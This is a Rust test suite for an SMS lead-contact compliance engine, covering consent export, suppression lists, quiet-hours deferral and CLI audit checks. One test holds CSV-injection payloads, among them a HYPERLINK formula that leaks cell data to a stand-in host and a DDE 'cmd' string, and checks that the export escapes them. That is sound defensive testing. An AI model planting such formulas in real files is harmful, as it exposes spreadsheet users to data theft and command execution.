//! Compliance engine over HTTP and the CLI: consent export, the suppression list, quiet
//! hours with the manual clock (including a restart and an opt-out while deferred), and
//! the offline `suppress` / `audit verify` / `consent export` commands.

use super::helpers::*;
use chrono::{DateTime, TimeZone, Utc};
use serde_json::{json, Value};
use std::path::Path;
use std::process::{Command, Output};
use std::time::{Duration, Instant};

const CONSENT_HEADER: [&str; 13] = [
    "phone",
    "event",
    "at",
    "granted_at",
    "source_url",
    "disclosure",
    "disclosure_sha256",
    "ip",
    "user_agent",
    "seller",
    "captured_from",
    "rule",
    "evidence",
];

/// 2026-11-26 22:30 in New York (EST, UTC-5): after the federal 9pm limit.
fn new_york_evening() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 27, 3, 30, 0).unwrap()
}

/// One second after 8:00 the next morning in New York.
fn new_york_morning() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 27, 13, 0, 1).unwrap()
}

async fn fast_scheduler() -> TestApp {
    TestApp::spawn_with(|s| s.scheduler.tick_ms = 50).await
}

async fn error_code(res: reqwest::Response) -> (u16, String) {
    let status = res.status().as_u16();
    let body: Value = res.json().await.unwrap_or(Value::Null);
    assert!(body["error"]["message"].as_str().is_some_and(|m| !m.is_empty()), "error message present: {body}");
    (status, body["error"]["code"].as_str().unwrap_or("<no error.code>").to_string())
}

async fn admin_put(app: &TestApp, path: &str, body: Option<Value>) -> reqwest::Response {
    let req = app.client.put(format!("{}{path}", app.base)).bearer_auth(ADMIN_TOKEN);
    let req = match body {
        Some(b) => req.json(&b),
        None => req,
    };
    req.send().await.unwrap()
}

async fn admin_delete(app: &TestApp, path: &str) -> reqwest::Response {
    app.client.delete(format!("{}{path}", app.base)).bearer_auth(ADMIN_TOKEN).send().await.unwrap()
}

async fn suppression_phones(app: &TestApp) -> Vec<String> {
    let res = app.admin_get("/v1/admin/suppressions").await;
    assert_eq!(res.status(), 200);
    let v: Value = res.json().await.unwrap();
    assert_eq!(v["count"].as_u64().unwrap() as usize, v["suppressions"].as_array().unwrap().len());
    v["suppressions"].as_array().unwrap().iter().map(|s| s["phone"].as_str().unwrap().to_string()).collect()
}

fn parse_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header = r.headers().unwrap().iter().map(str::to_string).collect();
    let rows = r.records().map(|rec| rec.unwrap().iter().map(str::to_string).collect()).collect();
    (header, rows)
}

/// Waits (bounded) for a deferred text's release: the scheduler ticks on its own.
async fn wait_sent(app: &TestApp, phone: &str, n: usize, within: Duration) -> usize {
    let deadline = Instant::now() + within;
    loop {
        let got = app.twilio.received_for(phone).len();
        if got >= n || Instant::now() > deadline {
            return got;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// Posts a lead at 22:30 New York time and checks that its first text was deferred to 08:00.
async fn capture_at_night(app: &TestApp, phone: &str, id: &str) {
    app.clock.set(new_york_evening());
    assert_eq!(app.post_lead(&lead_with_consent(phone, id)).await.status(), 202);
    let timeline = app.timeline(phone).await;
    let deferred = timeline.iter().find(|e| e["kind"] == "text_deferred").expect("the first text is deferred");
    assert!(deferred["rule"].as_str().unwrap().starts_with("quiet_hours"), "{deferred}");
    assert!(!timeline.iter().any(|e| e["kind"] == "text_queued"), "nothing queued at night: {timeline:?}");
    let lead = app.lead(phone).await;
    let scheduled = lead["scheduled"].as_array().unwrap();
    assert_eq!(scheduled.len(), 1, "{lead}");
    assert_eq!(scheduled[0]["not_before"], "2026-11-27T13:00:00.000Z", "08:00 EST");
    assert_eq!(scheduled[0]["kind"], "first_contact");
    assert_eq!(lead["status"], "NEW");
    assert!(app.twilio.settle(phone).await.is_empty(), "nothing goes out at night");
}

// ---------------------------------------------------------------------------------------
// Consent export
// ---------------------------------------------------------------------------------------

#[tokio::test]
async fn consent_export_shows_grant_revocation_and_reinstatement_as_json_and_csv() {
    let app = TestApp::spawn().await;
    let phone = "+12125550161";
    assert_eq!(app.post_lead(&lead_with_consent(phone, "Z-c1")).await.status(), 202);
    app.twilio.wait_for(phone, 1).await;
    assert_eq!(app.inbound(phone, "STOP", "SM-c1").await.status(), 200);
    app.twilio.wait_for(phone, 2).await;
    app.clock.advance(chrono::Duration::minutes(10));
    assert_eq!(app.inbound(phone, "START", "SM-c2").await.status(), 200);
    app.twilio.wait_for(phone, 3).await;

    // JSON (the default).
    let res = app.admin_get("/v1/admin/leads/2125550161/consent").await;
    assert_eq!(res.status(), 200);
    let v: Value = res.json().await.unwrap();
    assert_eq!(v["phone"], phone);
    assert_eq!(v["consent"]["source_url"], "https://agent.example.com/listing/123", "the grant applies again");
    let history = v["history"].as_array().unwrap();
    let events: Vec<_> = history.iter().map(|h| h["event"].as_str().unwrap()).collect();
    assert_eq!(events, ["granted", "revoked", "reinstated"]);
    let grant = &history[0];
    assert_eq!(grant["granted_at"], "2026-11-26T14:03:00.000Z");
    assert_eq!(grant["at"], "2026-11-26T18:00:00.000Z", "when leadline recorded it");
    assert_eq!(grant["ip"], "203.0.113.9");
    assert_eq!(grant["user_agent"], "Mozilla/5.0");
    assert_eq!(grant["captured_from"], "zillow");
    assert_eq!(grant["disclosure_sha256"].as_str().unwrap().len(), 64);
    assert_eq!(history[1]["at"], "2026-11-26T18:00:00.000Z");
    assert_eq!(history[1]["evidence"], "STOP");
    assert!(history[1]["rule"].as_str().unwrap().starts_with("opt_out"), "{}", history[1]);
    assert_eq!(history[2]["at"], "2026-11-26T18:10:00.000Z");
    assert_eq!(history[2]["evidence"], "START");
    assert!(history[2]["rule"].as_str().unwrap().starts_with("opt_in"), "{}", history[2]);
    for key in CONSENT_HEADER {
        assert!(grant.get(key).is_some(), "JSON rows carry the CSV's columns: {key}");
    }

    // CSV with Accept: text/csv (E.164 URL-encoded in the path).
    let res = app
        .client
        .get(format!("{}/v1/admin/leads/%2B12125550161/consent", app.base))
        .bearer_auth(ADMIN_TOKEN)
        .header("Accept", "text/csv")
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert!(res.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    assert!(res.headers()["content-disposition"].to_str().unwrap().contains("consent-12125550161.csv"));
    let (header, rows) = parse_csv(&res.text().await.unwrap());
    assert_eq!(header, CONSENT_HEADER);
    assert_eq!(rows.len(), 3);
    let col = |row: &[String], name: &str| row[CONSENT_HEADER.iter().position(|c| *c == name).unwrap()].clone();
    assert!(rows.iter().all(|r| col(r, "phone") == phone));
    let events: Vec<_> = rows.iter().map(|r| col(r, "event")).collect();
    assert_eq!(events, ["granted", "revoked", "reinstated"]);
    assert_eq!(col(&rows[0], "granted_at"), "2026-11-26T14:03:00.000Z");
    assert_eq!(col(&rows[0], "source_url"), "https://agent.example.com/listing/123");
    assert!(col(&rows[0], "disclosure").starts_with("By checking this box"));
    assert_eq!(col(&rows[0], "disclosure_sha256"), grant["disclosure_sha256"].as_str().unwrap());
    assert_eq!(col(&rows[0], "evidence"), "");
    assert_eq!(col(&rows[1], "granted_at"), "", "a revocation has no grant time");
    assert_eq!(col(&rows[1], "evidence"), "STOP");
    assert_eq!(col(&rows[2], "at"), "2026-11-26T18:10:00.000Z");
    assert_eq!(col(&rows[2], "evidence"), "START");

    // `?format=csv` does the same without the header; a bad format is a 422.
    let res = app.admin_get("/v1/admin/leads/2125550161/consent?format=csv").await;
    assert!(res.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    let res = app.admin_get("/v1/admin/leads/2125550161/consent?format=xml").await;
    assert_eq!(error_code(res).await, (422, "invalid_field".into()));

    // Unknown lead, invalid phone, no or wrong token.
    let res = app.admin_get("/v1/admin/leads/2125550199/consent").await;
    assert_eq!(error_code(res).await, (404, "not_found".into()));
    let res = app.admin_get("/v1/admin/leads/555/consent").await;
    assert_eq!(error_code(res).await, (422, "invalid_phone".into()));
    let url = format!("{}/v1/admin/leads/2125550161/consent", app.base);
    let res = app.client.get(&url).send().await.unwrap();
    assert_eq!(error_code(res).await, (401, "unauthorized".into()));
    let res = app.client.get(&url).bearer_auth("wrong").header("Accept", "text/csv").send().await.unwrap();
    assert_eq!(error_code(res).await, (401, "unauthorized".into()));
    app.stop().await;
}

/// Values a spreadsheet would run as formulas (OWASP "CSV Injection") get a leading `'` in
/// the CSV export; phone numbers and plain numbers do not; the JSON export stays verbatim.
#[tokio::test]
async fn consent_csv_escapes_formula_cells_and_the_json_export_stays_verbatim() {
    use sha2::Digest;
    let app = TestApp::spawn().await;
    let phone = "+12125550191";
    let hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Consent\")";
    let first = json!({
        "source": "web", "source_lead_id": "F-1", "phone": phone,
        "consent": {"granted_at": "2026-11-26T14:03:00Z", "source_url": "@SUM(1)", "disclosure": hyperlink,
                    "ip": "203.0.113.9", "user_agent": "+cmd|' /C calc'!A0", "seller": "-2+3"}
    });
    assert_eq!(app.post_lead(&first).await.status(), 202);
    let second = json!({
        "source": "web", "source_lead_id": "F-2", "phone": phone,
        "consent": {"granted_at": "2026-11-26T15:00:00Z", "source_url": "https://agent.example.com/l/2",
                    "disclosure": "\tI agree", "ip": " 2001:db8::7 ", "user_agent": "Mozilla/5.0", "seller": "-12.5"}
    });
    assert_eq!(app.post_lead(&second).await.status(), 202);

    let res = app.admin_get(&format!("/v1/admin/leads/{}/consent?format=csv", urlencode(phone))).await;
    assert_eq!(res.status(), 200);
    let (header, rows) = parse_csv(&res.text().await.unwrap());
    assert_eq!(header, CONSENT_HEADER);
    let col = |row: &[String], name: &str| row[CONSENT_HEADER.iter().position(|c| *c == name).unwrap()].clone();
    let grants: Vec<&Vec<String>> = rows.iter().filter(|r| col(r, "event") == "granted").collect();
    assert_eq!(grants.len(), 2, "{rows:?}");
    let (g1, g2) = (grants[0], grants[1]);
    assert_eq!(col(g1, "disclosure"), format!("'{hyperlink}"));
    assert_eq!(col(g1, "source_url"), "'@SUM(1)");
    assert_eq!(col(g1, "user_agent"), "'+cmd|' /C calc'!A0");
    assert_eq!(col(g1, "seller"), "'-2+3");
    assert_eq!(col(g2, "disclosure"), "'\tI agree");
    // Phone numbers, plain numbers, addresses, times and hashes are untouched.
    assert!(rows.iter().all(|r| col(r, "phone") == phone), "{rows:?}");
    assert_eq!(col(g2, "seller"), "-12.5");
    assert_eq!(col(g1, "ip"), "203.0.113.9");
    assert_eq!(col(g2, "ip"), "2001:db8::7", "trimmed, otherwise as sent");
    assert_eq!(col(g1, "granted_at"), "2026-11-26T14:03:00.000Z");
    let sha = |text: &str| hex::encode(sha2::Sha256::digest(text.as_bytes()));
    assert_eq!(col(g1, "disclosure_sha256"), sha(hyperlink), "the hash is over the original text");
    assert_eq!(col(g2, "disclosure_sha256"), sha("\tI agree"));

    // The JSON export is the verbatim evidence.
    let res = app.admin_get(&format!("/v1/admin/leads/{}/consent", urlencode(phone))).await;
    let v: Value = res.json().await.unwrap();
    let history: Vec<&Value> = v["history"].as_array().unwrap().iter().filter(|h| h["event"] == "granted").collect();
    assert_eq!(history[0]["disclosure"], hyperlink);
    assert_eq!(history[0]["disclosure_sha256"], sha(hyperlink));
    assert_eq!(history[0]["source_url"], "@SUM(1)");
    assert_eq!(history[0]["user_agent"], "+cmd|' /C calc'!A0");
    assert_eq!(history[0]["seller"], "-2+3");
    assert_eq!(history[1]["disclosure"], "\tI agree");
    app.stop().await;
}

#[tokio::test]
async fn a_consent_ip_that_is_no_ip_address_is_refused() {
    let app = TestApp::spawn().await;
    for (i, bad) in ["=1+1", "203.0.113", "203.0.113.9:443", "localhost", "fe80::1%eth0"].iter().enumerate() {
        let mut lead = lead_with_consent("+12125550192", &format!("IP-{i}"));
        lead["consent"]["ip"] = json!(bad);
        let res = app.post_lead(&lead).await;
        let status = res.status().as_u16();
        let body: Value = res.json().await.unwrap();
        assert_eq!((status, body["error"]["code"].as_str().unwrap()), (422, "invalid_field"), "{bad}: {body}");
        assert!(body["error"]["message"].as_str().unwrap().contains("consent.ip"), "{body}");
    }
    let res = app.admin_get("/v1/admin/leads/%2B12125550192").await;
    assert_eq!(res.status(), 404, "nothing was stored");
    // IPv6 is an IP address too; an empty ip is none.
    let mut lead = lead_with_consent("+12125550192", "IP-ok");
    lead["consent"]["ip"] = json!("2001:db8::1");
    assert_eq!(app.post_lead(&lead).await.status(), 202);
    let mut lead = lead_with_consent("+12125550193", "IP-empty");
    lead["consent"]["ip"] = json!("");
    assert_eq!(app.post_lead(&lead).await.status(), 202);
    assert_eq!(app.lead("+12125550193").await["consent"]["ip"], Value::Null);
    app.stop().await;
}

// ---------------------------------------------------------------------------------------
// Suppression list
// ---------------------------------------------------------------------------------------

#[tokio::test]
async fn a_suppressed_number_is_not_texted_until_it_is_removed_from_the_list() {
    let app = TestApp::spawn().await;
    let phone = "+12125550162";

    // Put the number on the litigator list before the lead exists (lists are loaded ahead).
    let res = admin_put(
        &app,
        "/v1/admin/suppressions/(212)%20555-0162",
        Some(json!({"list": "litigator", "reason": "TCPA plaintiff"})),
    )
    .await;
    assert_eq!(res.status(), 201);
    let entry: Value = res.json().await.unwrap();
    assert_eq!((entry["phone"].as_str(), entry["list"].as_str()), (Some(phone), Some("litigator")));
    assert_eq!(entry["reason"], "TCPA plaintiff");
    assert!(entry["previous"].is_null());
    assert_eq!(suppression_phones(&app).await, [phone]);
    let one: Value = app.admin_get("/v1/admin/suppressions/%2B12125550162").await.json().await.unwrap();
    assert_eq!(one["list"], "litigator");

    // A lead with complete consent arrives: stored, but blocked, and Twilio hears nothing.
    assert_eq!(app.post_lead(&lead_with_consent(phone, "Z-s1")).await.status(), 202);
    let rules = kinds_and_rules(&app.timeline(phone).await);
    assert!(rules.contains(&("text_blocked".into(), "suppression.litigator".into())), "{rules:?}");
    assert!(app.twilio.settle(phone).await.is_empty());
    assert_eq!(app.lead(phone).await["status"], "NEW");

    // PUT again replaces the entry (200) and shows what was there.
    let res = admin_put(&app, "/v1/admin/suppressions/2125550162", None).await;
    assert_eq!(res.status(), 200);
    let entry: Value = res.json().await.unwrap();
    assert_eq!(entry["list"], "admin", "list defaults to admin");
    assert_eq!(entry["previous"]["list"], "litigator");
    let admin_only: Value = app.admin_get("/v1/admin/suppressions?list=admin").await.json().await.unwrap();
    assert_eq!(admin_only["count"], 1);
    let none: Value = app.admin_get("/v1/admin/suppressions?list=litigator").await.json().await.unwrap();
    assert_eq!(none["count"], 0);

    // Remove it: gone from the list; a second DELETE is a 404.
    let res = admin_delete(&app, "/v1/admin/suppressions/%2B12125550162").await;
    assert_eq!(res.status(), 200);
    let removed: Value = res.json().await.unwrap();
    assert_eq!(removed["removed"]["list"], "admin");
    assert!(suppression_phones(&app).await.is_empty());
    assert_eq!(
        error_code(admin_delete(&app, "/v1/admin/suppressions/2125550162").await).await,
        (404, "not_found".into())
    );
    assert_eq!(error_code(app.admin_get("/v1/admin/suppressions/2125550162").await).await, (404, "not_found".into()));

    // The blocked lead never got its first text, so the next inquiry sends it now.
    assert_eq!(app.post_lead(&lead_with_consent(phone, "Z-s2")).await.status(), 202);
    let sent = app.twilio.wait_for(phone, 1).await;
    assert_eq!(sent.len(), 1);
    assert!(sent[0].body().ends_with("STOP to opt out."), "{}", sent[0].body());
    assert_eq!(app.lead(phone).await["status"], "CONTACTED_SMS");
    app.stop().await;
}

#[tokio::test]
async fn suppression_input_is_validated_and_changes_nothing() {
    let app = TestApp::spawn().await;
    let path = "/v1/admin/suppressions/2125550163";

    let res = admin_put(&app, "/v1/admin/suppressions/555", Some(json!({"list": "litigator"}))).await;
    assert_eq!(error_code(res).await, (422, "invalid_phone".into()));
    let res = admin_put(&app, "/v1/admin/suppressions/not-a-phone", None).await;
    assert_eq!(error_code(res).await, (422, "invalid_phone".into()));
    assert_eq!(error_code(admin_delete(&app, "/v1/admin/suppressions/555").await).await, (422, "invalid_phone".into()));
    for bad in ["", "Litigator", "internal-dnc", "dnc list", " admin", "x".repeat(65).as_str()] {
        let res = admin_put(&app, path, Some(json!({"list": bad}))).await;
        assert_eq!(error_code(res).await, (422, "invalid_field".into()), "list {bad:?}");
    }
    let res = admin_put(&app, path, Some(json!({"list": 5}))).await;
    assert_eq!(error_code(res).await, (422, "invalid_body".into()));
    let res = admin_put(&app, path, Some(json!({"lists": "litigator"}))).await;
    assert_eq!(error_code(res).await, (422, "invalid_body".into()), "unknown fields are refused");
    let res = admin_put(&app, path, Some(json!({"reason": "x".repeat(1001)}))).await;
    assert_eq!(error_code(res).await, (422, "invalid_field".into()));
    let res = app
        .client
        .put(format!("{}{path}", app.base))
        .bearer_auth(ADMIN_TOKEN)
        .header("content-type", "application/json")
        .body("{nope")
        .send()
        .await
        .unwrap();
    assert_eq!(error_code(res).await, (400, "malformed_json".into()));
    let res = app.client.put(format!("{}{path}", app.base)).json(&json!({"list": "admin"})).send().await.unwrap();
    assert_eq!(error_code(res).await, (401, "unauthorized".into()));
    let res = app.client.get(format!("{}/v1/admin/suppressions", app.base)).send().await.unwrap();
    assert_eq!(error_code(res).await, (401, "unauthorized".into()));
    assert!(suppression_phones(&app).await.is_empty(), "nothing was listed");

    // The valid forms: digits and a list name of a-z, 0-9 and _.
    let res = admin_put(&app, path, Some(json!({"list": "internal_dnc2", "reason": "  asked by phone  "}))).await;
    assert_eq!(res.status(), 201);
    let v: Value = res.json().await.unwrap();
    assert_eq!((v["list"].as_str(), v["reason"].as_str()), (Some("internal_dnc2"), Some("asked by phone")));
    app.stop().await;
}

// ---------------------------------------------------------------------------------------
// Quiet hours through HTTP with the manual clock
// ---------------------------------------------------------------------------------------

#[tokio::test]
async fn a_lead_captured_at_night_is_texted_at_8am_local_time() {
    let app = fast_scheduler().await;
    let phone = "+12125550164";
    capture_at_night(&app, phone, "Z-q1").await;

    // 07:59 is still too early.
    app.clock.set(Utc.with_ymd_and_hms(2026, 11, 27, 12, 59, 0).unwrap());
    assert!(app.twilio.settle(phone).await.is_empty());

    app.clock.set(new_york_morning());
    assert_eq!(wait_sent(&app, phone, 1, Duration::from_secs(5)).await, 1, "the first text goes out at 8am");
    assert_eq!(app.twilio.settle(phone).await.len(), 1, "exactly once");
    let lead = app.lead(phone).await;
    assert_eq!(lead["status"], "CONTACTED_SMS");
    assert_eq!(lead["scheduled"], json!([]));
    let timeline = app.wait_timeline(phone, "text_sent").await;
    let kinds: Vec<_> = timeline.iter().map(|e| e["kind"].as_str().unwrap()).collect();
    let deferred = kinds.iter().position(|k| *k == "text_deferred").unwrap();
    let queued = kinds.iter().position(|k| *k == "text_queued").unwrap();
    assert!(deferred < queued, "{kinds:?}");
    app.stop().await;
}

#[tokio::test]
async fn a_deferred_text_survives_a_restart_and_goes_out_exactly_once() {
    let app = fast_scheduler().await;
    let phone = "+12125550165";
    capture_at_night(&app, phone, "Z-q2").await;

    let app = app.restart().await;
    assert_eq!(app.lead(phone).await["scheduled"].as_array().unwrap().len(), 1, "the deferral is durable");
    assert!(app.twilio.settle(phone).await.is_empty());

    app.clock.set(new_york_morning());
    assert_eq!(wait_sent(&app, phone, 1, Duration::from_secs(5)).await, 1);
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(app.twilio.settle(phone).await.len(), 1, "exactly once");
    // And once more after another restart: nothing is repeated.
    let app = app.restart().await;
    assert_eq!(app.twilio.settle(phone).await.len(), 1);
    assert_eq!(app.lead(phone).await["status"], "CONTACTED_SMS");
    app.stop().await;
}

#[tokio::test]
async fn an_opt_out_while_a_text_is_deferred_cancels_it() {
    let app = fast_scheduler().await;
    let phone = "+12125550166";
    capture_at_night(&app, phone, "Z-q3").await;

    // The lead texts STOP at night: the confirmation goes out right away (it is exempt).
    assert_eq!(app.inbound(phone, "STOP", "SM-q3").await.status(), 200);
    let sent = app.twilio.wait_for(phone, 1).await;
    assert_eq!(sent.len(), 1);
    assert!(sent[0].body().contains("unsubscribed"), "{}", sent[0].body());
    let lead = app.lead(phone).await;
    assert_eq!(lead["status"], "OPT_OUT");
    assert_eq!(lead["scheduled"], json!([]));
    let rules = kinds_and_rules(&app.timeline(phone).await);
    assert!(rules.contains(&("text_blocked".into(), "opt_out".into())), "the deferred text is cancelled: {rules:?}");

    // Morning: the timer fires, but nothing else is ever sent.
    app.clock.set(new_york_morning());
    tokio::time::sleep(Duration::from_millis(300)).await;
    let sent = app.twilio.settle(phone).await;
    assert_eq!(sent.len(), 1, "only the opt-out confirmation: {:?}", sent.iter().map(|s| s.body()).collect::<Vec<_>>());
    app.stop().await;
}

// ---------------------------------------------------------------------------------------
// CLI
// ---------------------------------------------------------------------------------------

/// Runs the built binary against a data dir, in an empty working dir (no ./config.toml).
fn leadline(data: &Path, args: &[&str]) -> Output {
    let cwd = data.parent().unwrap();
    Command::new(env!("CARGO_BIN_EXE_leadline"))
        .args(args)
        .current_dir(cwd)
        .env("LEADLINE__STORAGE__PATH", data)
        .env_remove("LEADLINE_ADMIN_TOKEN")
        .output()
        .expect("the leadline binary runs")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn cli_imports_and_exports_the_suppression_list() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let file = dir.path().join("litigators.csv");
    std::fs::write(
        &file,
        "phone,reason\n(212) 555-0171,filed suit 2025\nnot a number,x\n\n\
         +1 310 555 0172\n212-555-0173,\"serial, plaintiff\"\n",
    )
    .unwrap();

    let out = leadline(&data, &["suppress", "import", file.to_str().unwrap(), "--list", "litigator"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(stdout.contains("imported 3, skipped 1"), "{stdout}");
    let stderr = text(&out.stderr);
    assert!(stderr.contains("line 3"), "the invalid line is reported by number: {stderr}");
    assert!(stderr.contains("not a number"), "{stderr}");

    // A headerless file onto the default list; a number already listed is updated.
    let file2 = dir.path().join("dnc.csv");
    std::fs::write(&file2, "2125550174\n2125550171,asked to stop\n").unwrap();
    let out = leadline(&data, &["suppress", "import", file2.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("imported 2, skipped 0"), "{}", text(&out.stdout));
    assert!(text(&out.stdout).contains("1 number(s) were already listed"), "{}", text(&out.stdout));

    let out = leadline(&data, &["suppress", "export"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let (header, rows) = parse_csv(&text(&out.stdout));
    assert_eq!(header, ["phone", "list", "reason", "added_at"]);
    let got: Vec<(&str, &str, &str)> = rows.iter().map(|r| (r[0].as_str(), r[1].as_str(), r[2].as_str())).collect();
    assert_eq!(
        got,
        [
            ("+12125550171", "internal_dnc", "asked to stop"),
            ("+12125550173", "litigator", "serial, plaintiff"),
            ("+12125550174", "internal_dnc", "imported from dnc.csv"),
            ("+13105550172", "litigator", "imported from litigators.csv"),
        ]
    );
    assert!(rows.iter().all(|r| r[3].ends_with('Z')), "added_at is RFC 3339: {rows:?}");

    // The export re-imports as is (its `list` column is honoured).
    let exported = dir.path().join("export.csv");
    std::fs::write(&exported, &out.stdout).unwrap();
    let other = dir.path().join("other-data");
    let out = leadline(&other, &["suppress", "import", exported.to_str().unwrap()]);
    assert!(
        text(&out.stdout).contains("imported 4, skipped 0 (list: internal_dnc, litigator)"),
        "{}",
        text(&out.stdout)
    );

    // A large file is written in chunks, with progress on stderr, and every row lands.
    let big = dir.path().join("big.csv");
    let rows: String = (0..12_000).map(|i| format!("+1646{:03}{:04},bulk\n", 234 + i / 10_000, i % 10_000)).collect();
    std::fs::write(&big, rows).unwrap();
    let bulk = dir.path().join("bulk-data");
    let out = leadline(&bulk, &["suppress", "import", big.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(text(&out.stdout).contains("imported 12000, skipped 0"), "{}", text(&out.stdout));
    let progress: Vec<String> =
        text(&out.stderr).lines().filter(|l| l.contains(" / 12000")).map(String::from).collect();
    assert_eq!(progress, ["imported 5000 / 12000", "imported 10000 / 12000", "imported 12000 / 12000"]);
    let out = leadline(&bulk, &["suppress", "export"]);
    assert_eq!(parse_csv(&text(&out.stdout)).1.len(), 12_000);

    // Bad usage: a bad list name, a missing file, a reading command on a missing database.
    let out = leadline(&data, &["suppress", "import", file.to_str().unwrap(), "--list", "Bad-List"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
    let out = leadline(&data, &["suppress", "import", "/nonexistent/file.csv"]);
    assert_eq!(out.status.code(), Some(2));
    let out = leadline(&dir.path().join("nowhere"), &["suppress", "export"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stderr).contains("no database"), "{}", text(&out.stderr));
}

/// `suppress export` writes a reason a spreadsheet would run as a formula with a leading
/// `'`; `suppress import` of that file reads the reason back without it.
#[test]
fn cli_suppression_export_escapes_formula_reasons() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let file = dir.path().join("list.csv");
    std::fs::write(&file, "phone,reason\n2125550175,=1+1\n2125550176,-12.5\n2125550177,@SUM(A1)\n").unwrap();
    let out = leadline(&data, &["suppress", "import", file.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));

    let out = leadline(&data, &["suppress", "export"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let (_, rows) = parse_csv(&text(&out.stdout));
    let got: Vec<(&str, &str)> = rows.iter().map(|r| (r[0].as_str(), r[2].as_str())).collect();
    assert_eq!(got, [("+12125550175", "'=1+1"), ("+12125550176", "-12.5"), ("+12125550177", "'@SUM(A1)")]);

    // Round trip: the re-imported reasons are the originals, escaped once again on export.
    let exported = dir.path().join("export.csv");
    std::fs::write(&exported, &out.stdout).unwrap();
    let other = dir.path().join("other-data");
    let out = leadline(&other, &["suppress", "import", exported.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = leadline(&other, &["suppress", "export"]);
    let (_, again) = parse_csv(&text(&out.stdout));
    assert_eq!(again.iter().map(|r| r[2].as_str()).collect::<Vec<_>>(), ["'=1+1", "-12.5", "'@SUM(A1)"]);
}

#[tokio::test]
async fn cli_audit_verify_and_consent_export_read_a_stopped_services_data() {
    let app = TestApp::spawn().await;
    let (ana, ben) = ("+12125550181", "+12125550182");
    assert_eq!(app.post_lead(&lead_with_consent(ana, "Z-a1")).await.status(), 202);
    app.twilio.wait_for(ana, 1).await;
    app.wait_timeline(ana, "text_sent").await;
    assert_eq!(app.inbound(ana, "STOP", "SM-a1").await.status(), 200);
    app.twilio.wait_for(ana, 2).await;
    app.wait_timeline(ana, "text_sent").await;
    assert_eq!(app.post_lead(&json!({"source": "web", "phone": ben})).await.status(), 202);
    let data = app.settings.storage.path.clone();
    let dir = app.dir.clone();

    // While the service runs, the database is locked: the CLI says so.
    let cmd = leadline(&data, &["audit", "verify"]);
    assert_eq!(cmd.status.code(), Some(1));
    assert!(text(&cmd.stderr).contains("is the service running?"), "{}", text(&cmd.stderr));

    let entries = app.timeline(ana).await.len() + app.timeline(ben).await.len();
    app.stop().await;

    let out = leadline(&data, &["audit", "verify"]);
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{stdout}{}", text(&out.stderr));
    assert!(stdout.contains(&format!("checked 2 lead(s), {entries} entries: every chain is intact")), "{stdout}");

    let out = leadline(&data, &["consent", "export", "2125550181", "--format", "csv"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let (header, rows) = parse_csv(&text(&out.stdout));
    assert_eq!(header, CONSENT_HEADER);
    assert_eq!(rows.iter().map(|r| r[1].as_str()).collect::<Vec<_>>(), ["granted", "revoked"]);
    let out = leadline(&data, &["consent", "export", ana]);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["status"], "OPT_OUT");
    assert_eq!(v["history"].as_array().unwrap().len(), 2);
    // `lead show` prints the admin view and the latest timeline entries.
    let out = leadline(&data, &["lead", "show", ana, "--timeline", "3"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["lead"]["status"], "OPT_OUT");
    assert_eq!(v["timeline"].as_array().unwrap().len(), 3);
    let out = leadline(&data, &["consent", "export", "2125550189"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stderr).contains("no lead"), "{}", text(&out.stderr));

    // Tamper with one stored entry (rewrite its detail, keep its hash): verify finds it.
    {
        use leadline_core::storage::{LeadCommit, Store};
        let store = Store::open(&data).unwrap();
        let phone = leadline_core::Phone::parse(ana).unwrap();
        let lead = store.lead(&phone).unwrap().unwrap();
        let mut entry = store.timeline(&phone, 1, 1).unwrap().remove(0);
        assert_eq!(entry.seq, 2);
        entry.detail = "nothing to see here".into();
        let commit = LeadCommit {
            state: &lead,
            entries: &[entry],
            sends: &[],
            dedupe_key: None,
            wake_at: None,
            new_interests: &[],
            notifications: &[],
            suppress: None,
            events: &[],
            subscriptions: &[],
            fub: None,
        };
        store.commit_lead(commit).await.unwrap();
    }
    let out = leadline(&data, &["audit", "verify"]);
    let stdout = text(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(stdout.contains("+1212***0181 seq 2: content does not match its hash"), "{stdout}");
    assert!(!stdout.contains(ana), "phones are masked: {stdout}");
    assert!(stdout.contains("checked 2 lead(s)") && stdout.contains("1 broken chain(s)"), "{stdout}");
    drop(dir);
}
